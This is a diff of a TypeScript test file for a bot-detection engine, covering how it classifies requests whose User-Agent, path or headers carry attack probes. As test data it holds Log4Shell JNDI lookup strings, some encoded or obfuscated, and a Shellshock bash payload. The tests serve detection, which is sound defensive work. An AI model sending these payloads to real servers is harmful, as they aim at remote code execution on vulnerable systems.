@@ -1,7 +1,8 @@
 // Attack probes: a User-Agent that is an attack payload is named by the attack it tries
 // (data/README.md "Attack probes"), found through the matcher's one scan; browsers never are.
 import { describe, expect, it } from 'vitest';
-import { createAccessPolicy, createCatalog, createRobotsRenderer, createEngine, defaultCatalogDocument, isAttackProbeId, isUnlistedAgentId } from '../../src/index.js';
+import { createAccessPolicy, createCatalog, createRobotsRenderer, createEngine, defaultCatalogDocument, ipRangeVerifier, isAttackProbeId, isUnlistedAgentId } from '../../src/index.js';
+import { loadIpRangeLists } from '../../src/adapters/node/index.js';
 import { costGrowth } from '../helpers/linear-time.js';
 
 const catalog = createCatalog(defaultCatalogDocument);
@@ -189,11 +190,28 @@ describe('attack probes', () => {
     it('names a Log4Shell lookup in the path or query, as the server decodes it', async () => {
       expect(await verdictOf({ 'user-agent': CHROME }, '/?x=${jndi:ldap://acme.example/a}')).toBe('probe:log4shell');
       expect(await verdictOf({ 'user-agent': CHROME }, '/?x=%24%7Bjndi%3Aldap%3A%2F%2Facme.example%2Fa%7D')).toBe('probe:log4shell');
-      expect(await verdictOf({ 'user-agent': GOOGLEBOT }, '/%2524%257Bjndi:ldap://acme.example/a%257D')).toBe('probe:log4shell');
+      expect(await verdictOf({ 'user-agent': CHROME }, '/%2524%257Bjndi:ldap://acme.example/a%257D')).toBe('probe:log4shell');
       expect(await verdictOf({ 'user-agent': CHROME }, '/$%7B$%7B::-j%7Dndi:rmi://acme.example/a%7D')).toBe('probe:log4shell');
       // Other kinds' shapes are ordinary in a path or query (a search for a template, a quote).
       expect(await verdictOf({ 'user-agent': CHROME }, "/search?q={{7*7}}&sort=name'")).toBeUndefined();
       expect(await verdictOf({ 'user-agent': GOOGLEBOT }, '/docs/%7Bid%7D/')).toBe('googlebot');
+    });
+
+    it('leaves a request its headers name to verification when only the path holds a lookup: crawlers follow planted links', async () => {
+      const verifying = createEngine({ verifiers: [ipRangeVerifier({ lists: loadIpRangeLists() })] });
+      const planted = '/search?q=%24%7Bjndi%3Aldap%3A%2F%2Facme.example%2Fa%7D';
+      const crawl = (clientIp: string) => verifying.verify({ request_headers: { 'user-agent': GOOGLEBOT }, request_path: planted, client_ip: clientIp });
+      // From Google's published range it is Googlebot, verified; from elsewhere verification judges it
+      // (by IP ranges alone an address outside them proves nothing: reverse DNS would refuse it).
+      expect(await crawl('66.249.66.1')).toMatchObject({ agent_id: 'googlebot', result: 'verified' });
+      expect(await crawl('203.0.113.9')).toMatchObject({ agent_id: 'googlebot', result: 'not_verifiable' });
+      // A payload in a header still names it, whatever it claims.
+      expect(await verifying.verify({ request_headers: { 'user-agent': GOOGLEBOT, 'x-api-version': '${jndi:ldap://acme.example/a}' }, request_path: '/', client_ip: '66.249.66.1' })).toMatchObject({ agent_id: 'probe:log4shell' });
+    });
+
+    it('reads the User-Agent too when a Signature-Agent named the request', () => {
+      expect(engine.identifySync({ request_headers: { 'user-agent': '${jndi:ldap://198.51.100.7/a}', 'signature-agent': '"https://chatgpt.com"' } }).agent_id).toBe('probe:log4shell');
+      expect(engine.identifySync({ request_headers: { 'user-agent': '() { :;}; /bin/bash -c id', 'signature-agent': '"https://chatgpt.com"' } }).agent_id).toBe('probe:shellshock');
     });
 
     it('never names ordinary header values that carry braces, quotes or script', () => {
@@ -221,7 +239,8 @@ describe('attack probes', () => {
 
     it('costs time linear in a crafted value', () => {
       const probeOf = (value: string) => catalog.matchRequestProbe!(new Map([['referer', value], ['cookie', value]]), value);
-      for (const unit of ['${', '{', '() {', '%25', '%7b', '${${', '${jndi']) {
+      // Units that start a rule's match without completing it, so each rule reads on.
+      for (const unit of ['$ {', '${ a', '${lower', '{ jndi', ' (', '{', '%25', '%7b', '$%7b']) {
         expect({ unit, linear: costGrowth(probeOf, unit) < 24 }).toEqual({ unit, linear: true });
       }
     });
